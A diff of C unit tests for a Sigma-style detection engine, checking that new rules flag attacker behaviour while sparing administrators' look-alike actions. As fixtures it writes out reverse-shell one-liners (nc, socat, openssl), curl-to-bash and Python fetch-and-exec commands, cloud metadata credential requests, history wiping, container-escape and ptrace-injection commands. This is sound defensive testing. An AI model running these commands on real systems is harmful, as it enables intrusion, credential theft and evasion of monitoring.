@@ -236,6 +236,172 @@ static void test_new_builtin_rules(void **s)
 	sigma_ruleset_free(&rs);
 }
 
+#define RID3(n) "6f1e0a01-3c2d-4b8e-9a01-000000000" n
+
+static void ev_read(const char *exe, const char *path)
+{
+	ev_write(exe, path);
+	ev.open_flags = 0; /* O_RDONLY */
+}
+
+/* The rules written for selftests/attack 57-82 (behaviours the first rules were not tuned to): each
+ * against what it is for and the administrator's look-alike it must leave alone. */
+static void test_unseen_behaviour_rules(void **s)
+{
+	(void)s;
+	struct sigma_ruleset rs;
+	load_builtin(&rs);
+	struct matcher *m = matcher_new(&rs);
+	assert_non_null(m);
+
+	/* boot, login and package-manager hooks */
+	ev_write("/usr/bin/bash", "/etc/update-motd.d/99-x");
+	assert_true(hits(m, RID3("101")));
+	ev_write("/usr/bin/bash", "/home/bob/.config/autostart/upd.desktop");
+	assert_true(hits(m, RID3("101")));
+	ev_write("/usr/bin/dpkg", "/etc/apt/apt.conf.d/20auto-upgrades");
+	assert_false(hits(m, RID3("101")));
+	/* capabilities that are root */
+	ev_exec("/usr/sbin/setcap", "setcap cap_setuid,cap_setgid+ep /home/bob/py");
+	assert_true(hits(m, RID3("102")));
+	ev_exec("/usr/sbin/setcap", "setcap cap_net_bind_service=+ep /usr/local/bin/web");
+	assert_false(hits(m, RID3("102")));
+	/* tokens */
+	ev_read("/usr/bin/cat", "/home/bob/.aws/credentials");
+	assert_true(hits(m, RID3("103")));
+	ev_read("/usr/local/bin/aws", "/home/bob/.aws/credentials");
+	assert_false(hits(m, RID3("103")));
+	ev_read("/usr/bin/python3.11", "/home/bob/.config/gcloud/credentials.db");
+	ev.command_line = "/usr/bin/python3 /usr/lib/google-cloud-sdk/lib/gcloud.py auth list";
+	assert_false(hits(m, RID3("103")));
+	/* account databases */
+	ev_write("/usr/bin/bash", "/etc/passwd");
+	assert_true(hits(m, RID3("104")));
+	ev_write("/usr/sbin/useradd", "/etc/passwd");
+	assert_false(hits(m, RID3("104")));
+	/* login records */
+	ev_write("/usr/bin/python3.11", "/var/log/wtmp");
+	assert_true(hits(m, RID3("105")));
+	ev_write("/usr/sbin/sshd", "/var/log/wtmp");
+	assert_false(hits(m, RID3("105")));
+	/* history */
+	ev_exec("/usr/bin/sed", "sed -i /curl/d /home/bob/.bash_history");
+	assert_true(hits(m, RID3("106")));
+	ev_exec("/usr/bin/bash", "bash -c export HISTFILE=/dev/null; id");
+	assert_true(hits(m, RID3("106")));
+	ev_exec("/usr/bin/bash", "bash -c export HISTSIZE=10000 HISTCONTROL=ignorespace");
+	assert_false(hits(m, RID3("106")));
+	/* argv[0] borrowed from a system program */
+	ev_exec("/home/bob/.cache/sd", "/usr/sbin/sshd 0.2");
+	assert_true(hits(m, RID3("107")));
+	ev_exec("/tmp/x", "cron -f");
+	assert_true(hits(m, RID3("107")));
+	ev_exec("/usr/sbin/sshd", "/usr/sbin/sshd -D");
+	assert_false(hits(m, RID3("107")));
+	ev_exec("/home/bob/bin/tool", "/home/bob/bin/tool --help");
+	assert_false(hits(m, RID3("107")));
+	/* container escape probes */
+	ev_exec("/usr/bin/curl", "curl --unix-socket /var/run/docker.sock http://localhost/containers/json");
+	assert_true(hits(m, RID3("108")));
+	ev_exec("/usr/bin/nsenter", "nsenter -t 1 -m -u -i -n sh");
+	assert_true(hits(m, RID3("108")));
+	ev_exec("/usr/bin/docker", "docker -H unix:///var/run/docker.sock ps");
+	assert_false(hits(m, RID3("108")));
+	ev_exec("/usr/bin/nsenter", "nsenter -t 4242 -n ss -tlnp");
+	assert_false(hits(m, RID3("108")));
+	/* ptrace injection */
+	ev_exec("/usr/bin/gdb", "gdb -q -p 812 -batch -ex call (int)dlopen(\"/tmp/x.so\", 2)");
+	assert_true(hits(m, RID3("109")));
+	ev_exec("/usr/bin/gdb", "gdb -p 812 -batch -ex bt");
+	assert_false(hits(m, RID3("109")));
+	/* code fetched and executed by an interpreter */
+	ev_exec("/usr/bin/python3.11", "python3 -c import urllib.request;exec(urllib.request.urlopen('http://x/s').read())");
+	assert_true(hits(m, RID3("110")));
+	ev_exec("/usr/bin/python3.11", "python3 -c import urllib.request; print(urllib.request.urlopen('http://x/').status)");
+	assert_false(hits(m, RID3("110")));
+	/* bash <(curl ...) */
+	ev_exec("/usr/bin/bash", "bash /dev/fd/63");
+	ev.parent_command_line = "bash -c bash <(curl -fsSL http://x/i.sh)";
+	assert_true(hits(m, RID3("111")));
+	ev_exec("/usr/bin/bash", "bash /dev/fd/63");
+	ev.parent_command_line = "bash -c bash <(printf 'echo hi')";
+	assert_false(hits(m, RID3("111")));
+	/* instance credentials */
+	ev_exec("/usr/bin/curl", "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/role");
+	assert_true(hits(m, RID3("112")));
+	ev_exec("/usr/bin/curl", "curl http://169.254.169.254/latest/meta-data/instance-id");
+	assert_false(hits(m, RID3("112")));
+	/* /proc/PID hidden by a mount */
+	ev_exec("/usr/bin/mount", "mount --bind /tmp/empty /proc/4242");
+	assert_true(hits(m, RID3("113")));
+	ev_exec("/usr/bin/mount", "mount -t proc proc /proc");
+	assert_false(hits(m, RID3("113")));
+	/* kernel hardening */
+	ev_exec("/usr/sbin/sysctl", "sysctl -w kernel.yama.ptrace_scope=0");
+	assert_true(hits(m, RID3("114")));
+	ev_exec("/usr/sbin/sysctl", "sysctl -w kernel.perf_event_paranoid=-1");
+	assert_false(hits(m, RID3("114")));
+	ev_exec("/usr/sbin/sysctl", "sysctl -w kernel.yama.ptrace_scope=1");
+	assert_false(hits(m, RID3("114")));
+	/* another process's memory */
+	ev_read("/usr/bin/python3.11", "/proc/812/mem");
+	assert_true(hits(m, RID3("115")));
+	ev_read("/usr/bin/gdb", "/proc/812/mem");
+	assert_false(hits(m, RID3("115")));
+	ev_read("/usr/bin/python3.11", "/dev/mem");
+	assert_false(hits(m, RID3("115")));
+	/* a shell with no script started by an interpreter or a network tool */
+	ev_exec("/usr/bin/dash", "/bin/sh -i");
+	ev.parent_executable = "/usr/bin/python3.11";
+	assert_true(hits(m, RID3("116")));
+	ev_exec("/usr/bin/dash", "sh");
+	ev.parent_executable = "/usr/bin/socat";
+	assert_true(hits(m, RID3("116")));
+	ev_exec("/usr/bin/dash", "/bin/sh -c ls -l");
+	ev.parent_executable = "/usr/bin/python3.11";
+	assert_false(hits(m, RID3("116")));
+	ev_exec("/usr/bin/bash", "bash /home/bob/build.sh");
+	ev.parent_executable = "/usr/bin/python3.11";
+	assert_false(hits(m, RID3("116")));
+	/* reverse shells through pipes and socat system: */
+	ev_exec("/usr/bin/dash", "sh -c nc 10.0.0.1 4444 </tmp/f | /bin/sh >/tmp/f 2>&1");
+	assert_true(hits(m, RID("06")));
+	ev_exec("/usr/bin/dash", "sh -c /bin/sh -i <s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:443 >s");
+	assert_true(hits(m, RID("06")));
+	ev_exec("/usr/bin/socat", "socat tcp-connect:10.0.0.1:4444 system:sh,pty,stderr");
+	assert_true(hits(m, RID("06")));
+	ev_exec("/usr/bin/dash", "sh -c nc -z 10.0.0.1 22 | tee log");
+	assert_false(hits(m, RID("06")));
+
+	/* accounts: an administrator's login session may create ordinary accounts; backdoor shapes and
+	 * anything outside a login session alert */
+	ev_exec("/usr/sbin/useradd", "useradd -m -s /bin/bash carol");
+	ev.loginuid = 1000;
+	assert_false(hits(m, RID("35")));
+	ev_exec("/usr/sbin/useradd", "useradd -m -s /bin/bash carol");
+	ev.loginuid = (uint32_t)-1;
+	assert_true(hits(m, RID("35")));
+	ev_exec("/usr/sbin/useradd", "useradd -r -s /bin/bash svc");
+	ev.loginuid = 1000;
+	assert_true(hits(m, RID("35")));
+	ev_exec("/usr/sbin/useradd", "useradd -m -d /root -s /bin/bash r2");
+	ev.loginuid = 1000;
+	assert_true(hits(m, RID("35")));
+	/* cron: crontab(1) in a login session is how users edit their table */
+	ev_write("/usr/bin/crontab", "/var/spool/cron/crontabs/carol");
+	ev.loginuid = 1000;
+	assert_false(hits(m, RID("09")));
+	ev_write("/usr/bin/crontab", "/var/spool/cron/crontabs/carol");
+	ev.loginuid = (uint32_t)-1;
+	assert_true(hits(m, RID("09")));
+	ev_write("/usr/bin/bash", "/var/spool/cron/crontabs/root");
+	ev.loginuid = 1000;
+	assert_true(hits(m, RID("09")));
+
+	matcher_free(m);
+	sigma_ruleset_free(&rs);
+}
+
 static void test_levels_and_folders(void **s)
 {
 	(void)s;
@@ -520,7 +686,7 @@ static void test_signals_stored_apart(void **s)
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(test_new_builtin_rules),	    cmocka_unit_test(test_levels_and_folders),
+		cmocka_unit_test(test_new_builtin_rules), cmocka_unit_test(test_unseen_behaviour_rules),	    cmocka_unit_test(test_levels_and_folders),
 		cmocka_unit_test(test_shipped_rules_load),	    cmocka_unit_test(test_overrides_file),
 		cmocka_unit_test(test_suppressions_live_and_kept), cmocka_unit_test(test_signals_stored_apart),
 	};
